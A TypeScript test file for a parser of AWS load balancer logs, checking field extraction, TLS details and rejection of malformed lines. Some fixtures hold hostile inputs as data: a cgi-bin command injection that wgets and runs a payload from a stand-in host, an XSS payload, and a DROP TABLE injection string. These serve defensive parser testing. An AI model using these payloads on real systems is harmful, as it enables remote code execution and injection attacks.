import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { fileURLToPath } from 'node:url';
import { CaseStore, type Row } from '../../../analyzers/store/caseStore';
import { createLineStage, stageLines, stageLinesFromBuffer } from '../../../analyzers/importers/lineStage';
import { looksLikeElbLine, parseElbStaged } from '../../../analyzers/importers/elb';
import { EXCERPT_CHARS, type ParseResult } from '../../../analyzers/importers/types';

let dir: string;
let store: CaseStore;
let nextSourceId = 1;

before(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cloudsift-elb-'));
  store = await CaseStore.open(path.join(dir, 'case.duckdb'), { threads: 2 });
  await createLineStage(store.conn);
});

after(async () => {
  await store.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

interface Imported {
  result: ParseResult;
  rows: Row[];
  rejects: Row[];
}

const ISO = (col: string) => `strftime(${col} AT TIME ZONE 'UTC', '%Y-%m-%dT%H:%M:%S.%fZ')`;

/** Stages lines as the importer does (1-based line numbers, blank lines left out), parses them and checks the accounting. */
async function importLines(lines: string[]): Promise<Imported> {
  const id = nextSourceId++;
  const staged = lines.map((line, i) => ({ sourceFileId: id, recordIndex: i + 1, line })).filter((l) => l.line.trim() !== '');
  await stageLines(store.conn, staged);
  const result = await parseElbStaged(store.conn, id);
  const rows = await store.allJson(
    `SELECT * REPLACE (${ISO('event_time')} AS event_time, ${ISO('request_creation_time')} AS request_creation_time,
                       ${ISO('tls_connection_creation_time')} AS tls_connection_creation_time),
            CAST(record_index AS INTEGER) AS line_no, CAST(received_bytes AS DOUBLE) AS received, CAST(sent_bytes AS DOUBLE) AS sent
     FROM elb WHERE source_file_id = $id ORDER BY record_index`,
    { id },
  );
  const rejects = await store.allJson(
    `SELECT CAST(position AS INTEGER) AS position, position_kind, reason, excerpt FROM rejects WHERE source_file_id = $id ORDER BY position`,
    { id },
  );
  assert.equal(result.imported.elb, rows.length);
  assert.equal(result.rejected, rejects.length);
  assert.equal(staged.length, rows.length + rejects.length, 'records in = imported + rejected');
  for (const r of rows) assert.equal(r.raw, lines[(r.line_no as number) - 1], 'raw is the line exactly');
  return { result, rows, rejects };
}

async function one(line: string): Promise<Row> {
  const { rows, rejects } = await importLines([line]);
  assert.deepEqual(rejects, []);
  assert.equal(rows.length, 1);
  return rows[0];
}

const TG = 'arn:aws:elasticloadbalancing:eu-west-1:210987654321:targetgroup/shop-web/0a1b2c3d4e5f6071';
const CERT = 'arn:aws:acm:eu-west-1:210987654321:certificate/11112222-3333-4444-5555-666677778888';

const ALB_HTTP = `http 2023-04-11T08:15:30.123456Z app/shop-frontend/6b1d0f9a2c3e4d5f 198.51.100.23:51234 10.20.1.17:8080 0.001 0.042 0.000 200 200 512 2048 "GET http://shop.example.net:80/cart?id=42 HTTP/1.1" "Mozilla/5.0 (X11; Linux x86_64) Firefox/112.0" - - ${TG} "Root=1-64351a42-0123456789abcdef01234567" "-" "-" 0 2023-04-11T08:15:30.080000Z "forward" "-" "-" "10.20.1.17:8080" "200" "-" "-"`;
const ALB_HTTPS = `https 2023-04-11T08:16:02.500001Z app/shop-frontend/6b1d0f9a2c3e4d5f 198.51.100.24:40022 10.20.1.18:8443 0.000 0.105 0.001 404 404 344 761 "GET https://shop.example.net:443/missing HTTP/1.1" "curl/8.0.1" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 ${TG} "Root=1-64351a62-00000000000000000000aaaa" "shop.example.net" "${CERT}" 3 2023-04-11T08:16:02.390000Z "waf,forward" "-" "-" "10.20.1.18:8443" "404" "-" "-"`;
const ALB_H2 = `h2 2023-04-11T08:17:00.000100Z app/shop-frontend/6b1d0f9a2c3e4d5f 198.51.100.25:40100 10.20.1.19:8443 0.000 0.010 0.000 200 200 90 15000 "GET https://shop.example.net:443/api/items?page=2 HTTP/2.0" "okhttp/4.10.0" TLS_AES_128_GCM_SHA256 TLSv1.3 ${TG} "Root=1-64351a9c-00000000000000000000bbbb" "shop.example.net" "${CERT}" 2 2023-04-11T08:16:59.990000Z "forward" "-" "-" "10.20.1.19:8443" "200" "-" "-"`;
const ALB_WS = `ws 2023-04-11T08:18:00.000200Z app/chat/1f2e3d4c5b6a7980 198.51.100.26:40200 10.20.2.5:9000 0.000 0.002 0.000 101 101 300 400 "GET http://chat.example.net:80/socket HTTP/1.1" "Mozilla/5.0 Chrome/112.0" - - ${TG} "Root=1-64351ad8-00000000000000000000cccc" "-" "-" 1 2023-04-11T08:17:40.000000Z "forward" "-" "-" "10.20.2.5:9000" "101" "-" "-"`;
const ALB_WSS = `wss 2023-04-11T08:19:00.000300Z app/chat/1f2e3d4c5b6a7980 198.51.100.27:40300 10.20.2.6:9443 0.000 0.003 0.000 101 101 310 410 "GET https://chat.example.net:443/socket HTTP/1.1" "Mozilla/5.0 Safari/16.4" ECDHE-ECDSA-AES256-GCM-SHA384 TLSv1.2 ${TG} "Root=1-64351b14-00000000000000000000dddd" "chat.example.net" "${CERT}" 1 2023-04-11T08:18:30.000000Z "forward" "-" "-" "10.20.2.6:9443" "101" "-" "-"`;
const ALB_GRPCS = `grpcs 2023-04-11T08:20:00.000400Z app/rpc/2a3b4c5d6e7f8091 198.51.100.28:40400 10.20.3.7:50051 0.000 0.020 0.000 200 200 120 88 "POST https://rpc.example.net:443/inventory.Stock/Get HTTP/2.0" "grpc-go/1.54.0" TLS_AES_256_GCM_SHA384 TLSv1.3 ${TG} "Root=1-64351b50-00000000000000000000eeee" "rpc.example.net" "${CERT}" 5 2023-04-11T08:19:59.980000Z "forward" "-" "-" "10.20.3.7:50051" "200" "-" "-"`;
const TRACE = 'TID_7a9c0e5b3d1f4a6c8e0b2d4f6a8c0e2b';
/** AWS's own unparsable-request shape, with the 30th field (conn_trace_id). */
const ALB_UNPARSABLE = `http 2023-04-11T08:21:00.000500Z app/internal-api/3b4c5d6e7f809102 127.0.0.1:57000 - -1 -1 -1 400 - 0 272 "- http://internal-api.example.net:80-/ " "-" - - - "-" "-" "-" - 2023-04-11T08:21:00.000000Z "-" "-" "-" "-" "-" "-" "-" ${TRACE}`;
const ALB_NO_TARGET = `http 2023-04-11T08:22:00.000600Z app/shop-frontend/6b1d0f9a2c3e4d5f 203.0.113.99:41000 - -1 -1 -1 301 - 233 390 "GET http://192.0.2.10:80/cgi-bin/run?cmd=cd+/tmp;wget+ x.example/payload;sh+payload HTTP/1.1" "Hello, world" - - - "Root=1-64351bc8-00000000000000000000ffff" "-" "-" 0 2023-04-11T08:22:00.000000Z "redirect" "https://192.0.2.10:443/cgi-bin/run?cmd=cd+/tmp;wget+ x.example/payload;sh+payload" "-" "-" "-" "Acceptable" "SpaceInUri"`;

describe('ALB access logs', () => {
  test('every request type, with request split and TLS fields', async () => {
    const { rows, result } = await importLines([ALB_HTTP, ALB_HTTPS, ALB_H2, ALB_WS, ALB_WSS, ALB_GRPCS]);
    assert.equal(result.format, 'alb');
    assert.deepEqual(
      rows.map((r) => [r.lb_type, r.request_type, r.http_method, r.http_version, r.ssl_protocol]),
      [
        ['alb', 'http', 'GET', 'HTTP/1.1', null],
        ['alb', 'https', 'GET', 'HTTP/1.1', 'TLSv1.2'],
        ['alb', 'h2', 'GET', 'HTTP/2.0', 'TLSv1.3'],
        ['alb', 'ws', 'GET', 'HTTP/1.1', null],
        ['alb', 'wss', 'GET', 'HTTP/1.1', 'TLSv1.2'],
        ['alb', 'grpcs', 'POST', 'HTTP/2.0', 'TLSv1.3'],
      ],
    );
    const https = rows[1];
    assert.equal(https.event_time, '2023-04-11T08:16:02.500001Z');
    assert.equal(https.elb, 'app/shop-frontend/6b1d0f9a2c3e4d5f');
    assert.equal(https.client_ip, '198.51.100.24');
    assert.equal(https.client_port, 40022);
    assert.equal(https.target_ip, '10.20.1.18');
    assert.equal(https.target_port, 8443);
    assert.equal(https.request_processing_time, 0);
    assert.equal(https.target_processing_time, 0.105);
    assert.equal(https.response_processing_time, 0.001);
    assert.equal(https.elb_status_code, 404);
    assert.equal(https.target_status_code, '404');
    assert.equal(https.received, 344);
    assert.equal(https.sent, 761);
    assert.equal(https.request, 'GET https://shop.example.net:443/missing HTTP/1.1');
    assert.equal(https.url, 'https://shop.example.net:443/missing');
    assert.equal(https.user_agent, 'curl/8.0.1');
    assert.equal(https.ssl_cipher, 'ECDHE-RSA-AES128-GCM-SHA256');
    assert.equal(https.target_group_arn, TG);
    assert.equal(https.trace_id, 'Root=1-64351a62-00000000000000000000aaaa');
    assert.equal(https.domain_name, 'shop.example.net');
    assert.equal(https.chosen_cert_arn, CERT);
    assert.equal(https.matched_rule_priority, '3');
    assert.equal(https.request_creation_time, '2023-04-11T08:16:02.390000Z');
    assert.equal(https.actions_executed, 'waf,forward');
    assert.equal(https.redirect_url, null);
    assert.equal(https.target_port_list, '10.20.1.18:8443');
    assert.equal(https.target_status_code_list, '404');
    assert.equal(https.conn_trace_id, null);
    assert.equal(https.extra_fields, null);
    assert.equal(rows[5].url, 'https://rpc.example.net:443/inventory.Stock/Get');
  });

  test('30 fields with conn_trace_id; fields AWS appends later are kept in extra_fields', async () => {
    const { rows } = await importLines([
      `${ALB_HTTPS} ${TRACE}`,
      `${ALB_HTTPS} ${TRACE} "a future field" plain-future`,
      `${ALB_HTTPS} ${TRACE} next-one another`,
    ]);
    assert.equal(rows[0].conn_trace_id, TRACE);
    assert.equal(rows[0].extra_fields, null);
    assert.equal(rows[1].conn_trace_id, TRACE);
    assert.deepEqual(JSON.parse(rows[1].extra_fields as string), ['a future field', 'plain-future']);
    assert.deepEqual(JSON.parse(rows[2].extra_fields as string), ['next-one', 'another']);
  });

  test("no target: '-' target and status, timings stay -1, a space inside the quoted request", async () => {
    const r = await one(ALB_NO_TARGET);
    assert.equal(r.target_ip, null);
    assert.equal(r.target_port, null);
    assert.equal(r.target_status_code, null);
    assert.deepEqual([r.request_processing_time, r.target_processing_time, r.response_processing_time], [-1, -1, -1]);
    assert.equal(r.http_method, 'GET');
    assert.equal(r.url, 'http://192.0.2.10:80/cgi-bin/run?cmd=cd+/tmp;wget+ x.example/payload;sh+payload');
    assert.equal(r.http_version, 'HTTP/1.1');
    assert.equal(r.user_agent, 'Hello, world');
    assert.equal(r.redirect_url, 'https://192.0.2.10:443/cgi-bin/run?cmd=cd+/tmp;wget+ x.example/payload;sh+payload');
    assert.equal(r.classification, 'Acceptable');
    assert.equal(r.classification_reason, 'SpaceInUri');
  });

  test('the unparsable request form "- URL " keeps the URL and no method or version', async () => {
    const r = await one(ALB_UNPARSABLE);
    assert.equal(r.request, '- http://internal-api.example.net:80-/ ');
    assert.equal(r.http_method, null);
    assert.equal(r.url, 'http://internal-api.example.net:80-/');
    assert.equal(r.http_version, null);
    assert.equal(r.user_agent, null);
    assert.equal(r.elb_status_code, 400);
    assert.equal(r.conn_trace_id, TRACE);
  });

  test('anonymised and IPv6 client addresses are kept as text, split at the last colon', async () => {
    const anon = ALB_HTTP.replace('198.51.100.23:51234', '12.34.178.90.32:40860').replace('http://shop.example.net:80', 'http://5.334.234.101:80');
    const v6 = ALB_HTTP.replace('198.51.100.23:51234', '2001:db8:4006:812::200e:51999');
    const { rows } = await importLines([anon, v6]);
    assert.deepEqual([rows[0].client_ip, rows[0].client_port], ['12.34.178.90.32', 40860]);
    assert.equal(rows[0].url, 'http://5.334.234.101:80/cart?id=42');
    assert.deepEqual([rows[1].client_ip, rows[1].client_port], ['2001:db8:4006:812::200e', 51999]);
  });

  test('escaped quotes are unescaped in columns; hostile user agents are stored verbatim', async () => {
    const xss = `<script>alert('x')</script><img src=x onerror=alert(1)>`;
    const quoted = ALB_HTTP.replace('"Mozilla/5.0 (X11; Linux x86_64) Firefox/112.0"', String.raw`"Agent \"quoted\" v1; DROP TABLE elb;--"`);
    const hostile = ALB_HTTP.replace('"Mozilla/5.0 (X11; Linux x86_64) Firefox/112.0"', `"${xss}"`);
    const { rows } = await importLines([quoted, hostile]);
    assert.equal(rows[0].user_agent, `Agent "quoted" v1; DROP TABLE elb;--`);
    assert.equal(rows[0].url, 'http://shop.example.net:80/cart?id=42');
    assert.equal(rows[0].trace_id, 'Root=1-64351a42-0123456789abcdef01234567');
    assert.equal(rows[1].user_agent, xss);
  });

  test('runs of spaces between fields are read like single ones', async () => {
    const r = await one(ALB_HTTP.replace(' 200 200 ', '  200   200 '));
    assert.equal(r.elb_status_code, 200);
    assert.equal(r.target_status_code, '200');
    assert.equal(r.user_agent, 'Mozilla/5.0 (X11; Linux x86_64) Firefox/112.0');
  });
});

const CLB_HTTP = `2023-04-11T09:00:01.000001Z legacy-web 203.0.113.77:40112 10.30.0.5:80 0.000051 0.001207 0.000033 200 200 0 1543 "GET http://legacy.example.org:80/index.html HTTP/1.1" "Wget/1.21.3" - -`;
const CLB_HTTPS = `2023-04-11T09:00:02.000002Z legacy-web 203.0.113.78:40113 10.30.0.6:443 0.000086 0.001048 0.001337 503 - 0 57 "POST https://legacy.example.org:443/login HTTP/1.1" "python-requests/2.28.2" DHE-RSA-AES128-SHA TLSv1.2`;
const CLB_TCP = `2023-04-11T09:00:03.000003Z legacy-tcp 203.0.113.79:40114 10.30.0.7:5432 0.000902 0.000011 0.000019 - - 120 880 "- - - " "-" - -`;
const CLB_SSL = `2023-04-11T09:00:04.000004Z legacy-ssl 203.0.113.80:40115 10.30.0.8:6379 0.001065 0.000015 0.000023 - - 57 502 "- - - " "-" ECDHE-ECDSA-AES128-GCM-SHA256 TLSv1.2`;

describe('Classic ELB', () => {
  test('http, https, tcp and ssl listeners', async () => {
    const { rows, result } = await importLines([CLB_HTTP, CLB_HTTPS, CLB_TCP, CLB_SSL]);
    assert.equal(result.format, 'clb');
    assert.equal(result.firstEventTime, '2023-04-11T09:00:01.000001Z');
    assert.equal(result.lastEventTime, '2023-04-11T09:00:04.000004Z');
    assert.deepEqual(
      rows.map((r) => [r.lb_type, r.elb, r.elb_status_code, r.target_status_code, r.http_method, r.url, r.ssl_cipher, r.ssl_protocol]),
      [
        ['clb', 'legacy-web', 200, '200', 'GET', 'http://legacy.example.org:80/index.html', null, null],
        ['clb', 'legacy-web', 503, null, 'POST', 'https://legacy.example.org:443/login', 'DHE-RSA-AES128-SHA', 'TLSv1.2'],
        ['clb', 'legacy-tcp', null, null, null, null, null, null],
        ['clb', 'legacy-ssl', null, null, null, null, 'ECDHE-ECDSA-AES128-GCM-SHA256', 'TLSv1.2'],
      ],
    );
    const tcp = rows[2];
    assert.equal(tcp.request, '- - - ');
    assert.equal(tcp.user_agent, null);
    assert.equal(tcp.http_version, null);
    assert.deepEqual([tcp.client_ip, tcp.client_port, tcp.target_ip, tcp.target_port], ['203.0.113.79', 40114, '10.30.0.7', 5432]);
    assert.equal(tcp.request_processing_time, 0.000902);
    assert.equal(tcp.target_processing_time, 0.000011);
    assert.deepEqual([tcp.received, tcp.sent], [120, 880]);
    assert.equal(tcp.request_type, null);
  });
});

const NLB_CERT = 'arn:aws:acm:eu-west-1:210987654321:certificate/aaaabbbb-cccc-dddd-eeee-ffff00001111';
const NLB_V1 = `tls 1.0 2023-04-11T10:00:00 net/edge-nlb/1a2b3c4d5e6f7081 8f9e0d1c2b3a4958 192.0.2.44:50123 10.40.0.9:443 12 3 1024 4096 - ${NLB_CERT} - ECDHE-RSA-AES128-GCM-SHA256 tlsv12 - edge.example.com`;
const NLB_V2_ALPN = `tls 2.0 2023-04-11T10:01:00 net/edge-nlb/1a2b3c4d5e6f7081 8f9e0d1c2b3a4958 192.0.2.45:50124 10.40.0.9:443 15 4 2048 8192 - ${NLB_CERT} - ECDHE-RSA-AES128-GCM-SHA256 tlsv12 secp256r1 edge.example.com h2 h2 "h2","http/1.1" 2023-04-11T10:00:58`;
const NLB_V2_21 = `tls 2.0 2023-04-11T10:02:00 net/edge-nlb/1a2b3c4d5e6f7081 8f9e0d1c2b3a4958 192.0.2.46:50125 10.40.0.10:443 9 2 512 1024 - ${NLB_CERT} - ECDHE-RSA-AES128-GCM-SHA256 tlsv13 x25519 edge.example.com - - -`;
const NLB_V2_DASHES = `tls 2.0 2023-04-11T10:03:00 net/edge-nlb/1a2b3c4d5e6f7081 8f9e0d1c2b3a4958 192.0.2.47:50126 10.40.0.11:443 0 - 0 0 - - - - - - - - - - 2023-04-11T10:03:00`;
const NLB_V2_ESCAPED = `tls 2.0 2023-04-11T10:04:00 net/edge-nlb/1a2b3c4d5e6f7081 8f9e0d1c2b3a4958 192.0.2.48:50127 10.40.0.12:443 30 6 700 900 - ${NLB_CERT} - ECDHE-RSA-AES128-GCM-SHA256 tlsv12 - [edge.example.com](https://edge.example.com/) http/1.1 http/1.1 \\"http/1.1\\" 2023-04-11T10:03:50`;

describe('NLB', () => {
  test('log version 1.0 (18 fields) and 2.0 (21 or 22 fields, ALPN list one field)', async () => {
    const { rows, result } = await importLines([NLB_V1, NLB_V2_ALPN, NLB_V2_21, NLB_V2_DASHES, NLB_V2_ESCAPED]);
    assert.equal(result.format, 'nlb');
    const [v1, alpn, short, dashes, escaped] = rows;
    assert.equal(v1.lb_type, 'nlb');
    assert.equal(v1.request_type, 'tls');
    assert.equal(v1.log_version, '1.0');
    assert.equal(v1.event_time, '2023-04-11T10:00:00.000000Z');
    assert.equal(v1.elb, 'net/edge-nlb/1a2b3c4d5e6f7081');
    assert.equal(v1.listener, '8f9e0d1c2b3a4958');
    assert.deepEqual([v1.client_ip, v1.client_port, v1.target_ip, v1.target_port], ['192.0.2.44', 50123, '10.40.0.9', 443]);
    assert.deepEqual([v1.connection_time, v1.tls_handshake_time, v1.received, v1.sent], [12, 3, 1024, 4096]);
    assert.equal(v1.chosen_cert_arn, NLB_CERT);
    assert.equal(v1.ssl_cipher, 'ECDHE-RSA-AES128-GCM-SHA256');
    assert.equal(v1.ssl_protocol, 'tlsv12');
    assert.equal(v1.domain_name, 'edge.example.com');
    assert.equal(v1.alpn_fe_protocol, null);
    assert.equal(v1.tls_connection_creation_time, null);

    assert.equal(alpn.log_version, '2.0');
    assert.equal(alpn.tls_named_group, 'secp256r1');
    assert.deepEqual([alpn.alpn_fe_protocol, alpn.alpn_be_protocol], ['h2', 'h2']);
    assert.equal(alpn.alpn_client_preference_list, '"h2","http/1.1"');
    assert.equal(alpn.tls_connection_creation_time, '2023-04-11T10:00:58.000000Z');
    assert.equal(alpn.extra_fields, null);

    assert.equal(short.alpn_client_preference_list, null);
    assert.equal(short.tls_connection_creation_time, null);

    assert.equal(dashes.tls_handshake_time, null);
    assert.equal(dashes.connection_time, 0);
    assert.equal(dashes.chosen_cert_arn, null);

    assert.equal(escaped.domain_name, '[edge.example.com](https://edge.example.com/)');
    assert.equal(escaped.alpn_client_preference_list, String.raw`\"http/1.1\"`);
    assert.equal(escaped.tls_connection_creation_time, '2023-04-11T10:03:50.000000Z');
  });

  test('times without an offset are UTC whatever the session time zone', async () => {
    await store.run(`SET TimeZone = 'America/New_York'`);
    try {
      const r = await one(NLB_V1);
      assert.equal(r.event_time, '2023-04-11T10:00:00.000000Z');
    } finally {
      await store.run(`SET TimeZone = 'UTC'`);
    }
  });
});

const CONN_OK = `2023-04-11T11:00:00.123456Z 198.51.100.9 50001 443 TLSv1.3 TLS_AES_128_GCM_SHA256 2.731 "CN=client.example.com,O=Example Corp,C=US" NotBefore=2023-01-01T00:00:00Z;NotAfter=2024-01-01T00:00:00Z 0A1B2C3D4E5F6071 Success`;
const CONN_FAILED = `2023-04-11T11:00:01.000001Z 198.51.100.10 50002 443 TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256 - "CN=rogue.example.com,O=Unknown,C=US" NotBefore=2023-01-01T00:00:00Z;NotAfter=2024-01-01T00:00:00Z 0B1C2D3E4F506172 Failed:ClientCertUntrusted`;
const CONN_PLAIN = `2023-04-11T11:00:02.000002Z 172.31.40.5 58206 80 - - - "-" - - - TID_16132ed0b4112148aa`;

describe('ALB connection logs', () => {
  test('11 fields, and 12 with conn_trace_id', async () => {
    const { rows, result } = await importLines([CONN_OK, CONN_FAILED, CONN_PLAIN]);
    assert.equal(result.format, 'alb_connection');
    const [ok, failed, plain] = rows;
    assert.equal(ok.lb_type, 'alb_connection');
    assert.equal(ok.event_time, '2023-04-11T11:00:00.123456Z');
    assert.deepEqual([ok.client_ip, ok.client_port, ok.listener_port], ['198.51.100.9', 50001, 443]);
    assert.deepEqual([ok.ssl_protocol, ok.ssl_cipher, ok.tls_handshake_latency], ['TLSv1.3', 'TLS_AES_128_GCM_SHA256', 2.731]);
    assert.equal(ok.leaf_client_cert_subject, 'CN=client.example.com,O=Example Corp,C=US');
    assert.equal(ok.leaf_client_cert_validity, 'NotBefore=2023-01-01T00:00:00Z;NotAfter=2024-01-01T00:00:00Z');
    assert.equal(ok.leaf_client_cert_serial_number, '0A1B2C3D4E5F6071');
    assert.equal(ok.tls_verify_status, 'Success');
    assert.equal(ok.conn_trace_id, null);
    assert.equal(failed.tls_handshake_latency, null);
    assert.equal(failed.tls_verify_status, 'Failed:ClientCertUntrusted');
    assert.equal(plain.leaf_client_cert_subject, null);
    assert.equal(plain.ssl_protocol, null);
    assert.equal(plain.conn_trace_id, 'TID_16132ed0b4112148aa');
  });
});

describe('mixed files and malformed lines', () => {
  test('a file mixing kinds is split per line', async () => {
    const { rows, result } = await importLines([ALB_HTTP, NLB_V2_ALPN, CONN_OK, ALB_NO_TARGET, CLB_TCP, NLB_V1, CONN_PLAIN]);
    assert.equal(result.format, 'mixed: alb=2 clb=1 nlb=2 alb_connection=2');
    assert.deepEqual(
      rows.map((r) => [r.line_no, r.lb_type]),
      [
        [1, 'alb'],
        [2, 'nlb'],
        [3, 'alb_connection'],
        [4, 'alb'],
        [5, 'clb'],
        [6, 'nlb'],
        [7, 'alb_connection'],
      ],
    );
    assert.equal(result.firstEventTime, '2023-04-11T08:15:30.123456Z');
    assert.equal(result.lastEventTime, '2023-04-11T11:00:02.000002Z');
  });

  test('malformed lines are rejected with their line numbers and precise reasons, never half-read', async () => {
    const long = `${ALB_HTTP.replace(' 200 200 ', ' 2x0 200 ')} "${'A'.repeat(3000)}"`;
    const lines = [
      ALB_HTTP,
      ALB_HTTP.replace(' 200 200 ', ' 2x0 200 '),
      ALB_HTTP.replace(' 512 2048 ', ' 1.5 2048 '),
      ALB_HTTP.replace('2023-04-11T08:15:30.123456Z', '2023-02-30T08:15:30.123456Z'),
      'http 2023-04-11T08:15:30.123456Z app/shop-frontend/6b1d0f9a2c3e4d5f 198.51.100.23:51234 10.20.1.17:8080 0.001 0.042 0.000 200 200',
      'hello world, not a log line',
      '',
      NLB_V2_ALPN.split(' ').slice(0, 19).join(' '),
      ALB_HTTP.replace('198.51.100.23:51234', 'nowhere'),
      CLB_HTTP.replace('2023-04-11T09:00:01.000001Z', '2023-04-11T09:00:01+02:00'),
      ALB_HTTP.replace(' 0.042 ', ' 0x2A '),
      long,
      CLB_SSL,
    ];
    const { rows, rejects, result } = await importLines(lines);
    assert.deepEqual(
      rows.map((r) => r.line_no),
      [1, 13],
    );
    assert.deepEqual(
      rejects.map((r) => [r.position, r.position_kind, r.reason]),
      [
        [2, 'line', "ALB access field 9 elb_status_code: '2x0' is not an integer"],
        [3, 'line', "ALB access field 11 received_bytes: '1.5' is not an integer"],
        [4, 'line', "ALB access field 2 time: '2023-02-30T08:15:30.123456Z' is not an ISO 8601 UTC time"],
        [5, 'line', 'ALB access record has 10 fields, expected at least 18'],
        [6, 'line', "not an ELB record: first field 'hello' is not an ALB request type, an NLB listener type with log version, or a time"],
        [8, 'line', 'NLB record has 19 fields, expected at least 21'],
        [9, 'line', "ALB access field 4 client:port: 'nowhere' is not an address:port"],
        [10, 'line', "Classic ELB field 1 timestamp: '2023-04-11T09:00:01+02:00' is not an ISO 8601 UTC time"],
        [11, 'line', "ALB access field 7 target_processing_time: '0x2A' is not a number"],
        [12, 'line', "ALB access field 9 elb_status_code: '2x0' is not an integer"],
      ],
    );
    assert.equal(rejects[0].excerpt, lines[1]);
    assert.equal((rejects[9].excerpt as string).length, EXCERPT_CHARS);
    assert.ok(long.startsWith(rejects[9].excerpt as string));
    assert.equal(result.imported.elb, 2);
    assert.equal(result.rejected, 10);
    assert.equal(result.format, 'mixed: alb=1 clb=1');
  });

  test('a file of nothing but rejects reports no format and no times', async () => {
    const { result } = await importLines(['garbage one', 'garbage two']);
    assert.deepEqual(result, { imported: { elb: 0 }, rejected: 2, firstEventTime: null, lastEventTime: null, format: undefined });
  });
});

describe('the two ways of splitting a line', () => {
  test('a line the regex tokenizer reads (one space doubled) comes out as when split the fast way', async () => {
    const lines = [ALB_HTTP, ALB_HTTPS, `${ALB_HTTPS} ${TRACE} extra-one`, ALB_NO_TARGET, ALB_UNPARSABLE, CLB_HTTP, CLB_TCP, NLB_V1, NLB_V2_21, NLB_V2_DASHES, CONN_OK, CONN_PLAIN];
    const fast = await importLines(lines);
    const slow = await importLines(lines.map((l) => l.replace(/ (?=[^ ]*$)/, '  ')));
    const fields = (r: Row) => Object.fromEntries(Object.entries(r).filter(([k]) => k !== 'raw' && k !== 'source_file_id'));
    assert.equal(fast.rows.length, lines.length);
    assert.deepEqual(slow.rows.map(fields), fast.rows.map(fields));
  });
});

describe('looksLikeElbLine', () => {
  test('recognises every kind and nothing else', () => {
    for (const line of [ALB_HTTP, ALB_GRPCS, ALB_UNPARSABLE, ALB_NO_TARGET, CLB_HTTP, CLB_TCP, NLB_V1, NLB_V2_ALPN, NLB_V2_DASHES, CONN_OK, CONN_PLAIN]) {
      assert.ok(looksLikeElbLine(line), line);
    }
    for (const line of [
      '2 210987654321 eni-0a1b2c3d4e5f60718 10.1.2.3 10.1.9.8 51012 22 6 12 3301 1600000000 1600000060 ACCEPT OK',
      '79a59df900b949e55d96a1e698fbacedfd6e09d98eacf8f8d5218e7cd47ef2be bucket [06/Feb/2019:00:00:38 +0000] 192.0.2.3 - 3E57427F3EXAMPLE REST.GET.VERSIONING - "GET /bucket?versioning HTTP/1.1" 200 - 113 - 7 - "-" "S3Console/0.4" -',
      '{"eventVersion":"1.08"}',
      '2019-12-04\t21:02:31\tLAX1\t392\t192.0.2.100\tGET',
    ]) {
      assert.ok(!looksLikeElbLine(line), line);
    }
  });
});

const here = path.dirname(fileURLToPath(import.meta.url));
const CORPUS = process.env.CLOUDSIFT_CORPUS ?? path.resolve(here, '../../../../shared/corpus');
const MANIFEST = path.join(CORPUS, 'MANIFEST.tsv');
const ELB_KINDS = new Set(['alb', 'clb', 'nlb', 'alb-connection', 'mixed']);

test('corpus ELB files import with their manifest record counts', { skip: fs.existsSync(MANIFEST) ? false : `corpus not found at ${CORPUS}` }, async (t) => {
  const rows = fs
    .readFileSync(MANIFEST, 'utf8')
    .split('\n')
    .slice(1)
    .filter((l) => l.trim() !== '')
    .map((l) => l.split('\t'))
    .filter(([, kind]) => ELB_KINDS.has(kind));
  assert.ok(rows.length > 0);
  for (const [file, kind, , records, notes] of rows) {
    await t.test(file, async () => {
      let buf = fs.readFileSync(path.join(CORPUS, file));
      if (file.endsWith('.gz')) buf = zlib.gunzipSync(buf);
      const id = nextSourceId++;
      const staged = await stageLinesFromBuffer(store.conn, buf, id);
      const result = await parseElbStaged(store.conn, id);
      assert.equal(result.rejected, 0, JSON.stringify(await store.all(`SELECT reason FROM rejects WHERE source_file_id = $id`, { id })));
      assert.equal(result.imported.elb, Number(records));
      assert.equal(staged, Number(records));
      if (kind === 'mixed') {
        const counts = notes.match(/^alb=(\d+) nlb=(\d+) alb-connection=(\d+)/);
        assert.ok(counts, notes);
        assert.equal(result.format, `mixed: alb=${counts[1]} nlb=${counts[2]} alb_connection=${counts[3]}`);
      } else {
        assert.equal(result.format, kind.replace('-', '_'));
      }
    });
  }
});
